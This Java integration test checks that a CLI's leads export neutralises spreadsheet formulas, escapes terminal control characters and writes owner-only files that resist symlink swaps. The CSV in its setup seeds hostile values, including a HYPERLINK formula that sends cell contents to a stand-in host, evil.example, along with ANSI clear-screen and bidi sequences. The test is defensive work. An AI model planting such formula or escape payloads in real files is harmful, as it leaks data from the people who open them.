package dev.nightshift.app.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.nightshift.app.terminal.StopSignal;
import dev.nightshift.app.terminal.Surroundings;
import dev.nightshift.platform.settings.Settings;
import dev.nightshift.platform.testing.EmbeddedStack;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.InstantSource;
import java.util.LinkedHashMap;
import java.util.Map;

/** Exports of leads whose text somebody made to do harm, in a folder that others may write in. */
class LeadsExportIT {
    @TempDir private Path folder = Path.of("");
    private final Map<String, String> environment = new LinkedHashMap<>();

    @BeforeEach
    void importLeads() throws IOException {
        Settings settings = EmbeddedStack.fresh().settings();
        environment.put("NIGHTSHIFT_DATA_DIR", settings.dataDir().toString());
        environment.put("NIGHTSHIFT_MONGODB_URI", settings.mongodbUri().orElseThrow());
        environment.put("NIGHTSHIFT_REDIS_URI", settings.redisUri().orElseThrow());
        environment.put("NIGHTSHIFT_JDBC_URL", settings.jdbcUrl().orElseThrow());
        Path file =
                Files.writeString(
                        folder.resolve("leads.csv"),
                        """
                        first_name,last_name,phone,email,note
                        "=HYPERLINK(""http://evil.example?""&A2,""x"")",+1 for all,2025550143,a@b.example,'=1+1
                        @SUM(A1),'tis,2025550144,,\u001b[2J\u061ccleared
                        -2+3,+12025550199,2025550145,,"two
                        lines"
                        """
                                .replace("\\u001b", "\u001b")
                                .replace("\\u061c", "\u061c"));
        run(false, "import", file.toString(), "--company", "demo");
    }

    @Test
    void no_cell_of_an_export_is_a_formula_and_what_is_imported_again_changes_nothing()
            throws IOException {
        Path export = folder.resolve("export.csv");
        run(false, "leads", "export", "--company", "demo", "--to", export.toString());

        String text = Files.readString(export);
        assertThat(text)
                .contains("\"'=HYPERLINK(", ",'+1 for all,", ",'@SUM(A1),", ",'-2+3,", ",''=1+1\n")
                .contains(",+12025550143,", ",+12025550199,", ",'tis,")
                .doesNotContainPattern("(?m)[,\"][=@\\-]");
        assertThat(run(false, "import", export.toString(), "--company", "demo"))
                .containsPattern("read as +nightshift")
                .containsPattern("unchanged +3")
                .containsPattern("updated +0");
    }

    @Test
    void what_an_export_shows_on_a_terminal_does_not_steer_it() {
        assertThat(run(true, "leads", "export", "--company", "demo"))
                .contains("\\u001b[2J\\u061ccleared", "two\\u000alines")
                .doesNotContain("\u001b", "\u061c");
        assertThat(run(true, "leads", "export", "--company", "demo", "--format", "jsonl"))
                .doesNotContain("\u001b", "\u061c");
        assertThat(run(false, "leads", "export", "--company", "demo"))
                .as("for a program")
                .contains("\u001b[2J\u061ccleared");
    }

    @Test
    void an_export_can_be_read_by_its_owner_alone_whatever_was_there() throws IOException {
        Path theirs = Files.writeString(folder.resolve("theirs"), "theirs");
        Path export = Files.writeString(folder.resolve("export.csv"), "an older one");
        Path part = Files.writeString(folder.resolve("export.csv.part"), "");
        for (Path waiting : new Path[] {export, part}) {
            Files.setPosixFilePermissions(waiting, PosixFilePermissions.fromString("rw-rw-rw-"));
        }
        run(false, "leads", "export", "--company", "demo", "--to", export.toString());
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(export)))
                .isEqualTo("rw-------");

        Files.createSymbolicLink(part, theirs);
        run(false, "leads", "export", "--company", "demo", "--to", export.toString());
        assertThat(theirs).hasContent("theirs");
        assertThat(Files.isSymbolicLink(export)).isFalse();
        assertThat(export).content().contains("a@b.example");
    }

    private String run(boolean terminal, String... arguments) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        int exit =
                new Cli(
                                new Surroundings(
                                        InputStream.nullInputStream(),
                                        new PrintStream(out, true, StandardCharsets.UTF_8),
                                        new PrintStream(err, true, StandardCharsets.UTF_8),
                                        environment,
                                        InstantSource.system(),
                                        terminal,
                                        false,
                                        StopSignal.NONE))
                        .run(arguments);
        assertThat(exit).as(err.toString(StandardCharsets.UTF_8)).isZero();
        return out.toString(StandardCharsets.UTF_8);
    }
}
